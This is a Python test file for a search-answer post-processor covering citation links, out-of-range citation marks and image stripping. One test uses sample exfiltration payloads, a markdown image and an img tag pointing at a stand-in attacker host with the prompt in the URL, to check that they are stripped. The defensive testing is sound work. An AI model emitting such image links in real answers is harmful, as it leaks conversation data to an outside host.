"""Answer post-processing: citation links, out-of-range marks, image stripping."""

from __future__ import annotations

from searchduel.rag.cite import invalid_citations, render_citations, split_citations, strip_images
from searchduel.types import Source

SOURCES = (
    Source(n=1, title="Belize trip", url="corpus://belize-day-trip.md", kind="corpus"),
    Source(n=2, title='The "Reef"', url="https://example.org/reef (2).html", site="example.org"),
)


def test_citations_become_links() -> None:
    out = render_citations("Belize uses the dollar [1].", SOURCES)
    assert out == 'Belize uses the dollar [[1]](corpus://belize-day-trip.md "Belize trip").'


def test_groups_runs_and_ranges() -> None:
    out = render_citations("Reef[1][2] and [1, 2] and [1-2].", SOURCES)
    assert out.count("[[1]](") == 3 and out.count("[[2]](") == 3
    assert "%20%282%29.html" not in out  # "(" is safe inside a link, only ")" is escaped
    assert "reef%20(2%29.html" in out
    assert "The 'Reef'" in out


def test_out_of_range_citation_is_marked() -> None:
    answer = "True [7], also [0] and [2, 9]."
    out = render_citations(answer, SOURCES)
    assert "[7?]" in out and "[0?]" in out and "[9?]" in out
    assert "[[2]](" in out
    assert invalid_citations(answer, 2) == [7, 0, 9]
    assert invalid_citations("fine [1][2]", 2) == []


def test_links_code_and_references_are_not_citations() -> None:
    answer = "See [the map](https://m.example/x) and [3](https://x.example) and `a[5]`.\n[4]: x"
    out = render_citations(answer, SOURCES)
    assert out == answer
    assert invalid_citations(answer, 2) == []


def test_images_are_removed_everywhere() -> None:
    leak = "Answer ![secret](https://evil.example/log?q=PROMPT) done"
    assert strip_images(leak) == "Answer secret done"
    assert strip_images('x ![a](http://e.x/y.png "t") y') == "x a y"
    assert strip_images("x ![alt][ref] y") == "x alt y"
    assert strip_images('a <img src="https://evil.example/p.gif"> b <IMG\nsrc=x/> c') == "a  b  c"
    assert "evil" not in render_citations(leak + " [1]", SOURCES)
    # inside code an image is only text and is left as written
    assert strip_images("`![x](http://e)`") == "`![x](http://e)`"


def test_text_splits_at_its_citation_runs() -> None:
    assert split_citations("a [1-2][4] b [x] ![3] [5](u)") == [
        "a ",
        [1, 2, 4],
        " b [x] ![3] [5](u)",
    ]
    assert split_citations("[1]") == ["", [1], ""] and split_citations("") == [""]
